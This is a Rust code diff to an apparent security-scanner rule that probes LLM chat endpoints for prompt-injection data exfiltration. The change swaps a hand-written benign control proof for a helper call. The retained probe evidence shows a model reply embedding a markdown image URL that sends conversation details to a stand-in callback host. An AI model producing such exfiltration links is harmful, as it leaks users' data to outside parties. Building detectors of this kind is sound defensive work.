@@ -7,6 +7,7 @@
 
 use super::probes::{embeds_url, exfiltration_prompt};
 use super::{LLM_TOP10, OWASP, probe_budget, trials};
+use crate::examples::benign_chat;
 use async_trait::async_trait;
 use rampart_engine::{Check, Context, Error, LlmTier, Outcome, ScanConfig};
 use rampart_model::{Category, Confidence, Example, Need, Proof, Rule, Severity};
@@ -47,15 +48,7 @@ static RULE: Rule = Rule {
                 response_body: r#"{"reply":"Sure! ![status](http://scanner.example:9000/rampart-cb/8e41c07d2a9b5f13?d=customer%20asked%20about%20order%201002)"}"#,
                 note: "probe: reply carries the exfiltration image URL http://scanner.example:9000/rampart-cb/8e41c07d2a9b5f13",
             },
-            Proof {
-                request: "POST /api/v1/chat",
-                headers: &["Authorization: Bearer [redacted]", "Content-Type: application/json"],
-                body: Some(r#"{"message":"Hello, what can you help me with today?"}"#),
-                status: 200,
-                response_headers: &["Content-Type: application/json"],
-                response_body: r#"{"reply":"Hi! I can help you track orders, returns and deliveries."}"#,
-                note: "control: the benign prompt's reply carries no canary and is not an echo of the prompt",
-            },
+            benign_chat("control: the benign prompt's reply carries no canary and is not an echo of the prompt"),
         ],
     }],
 };
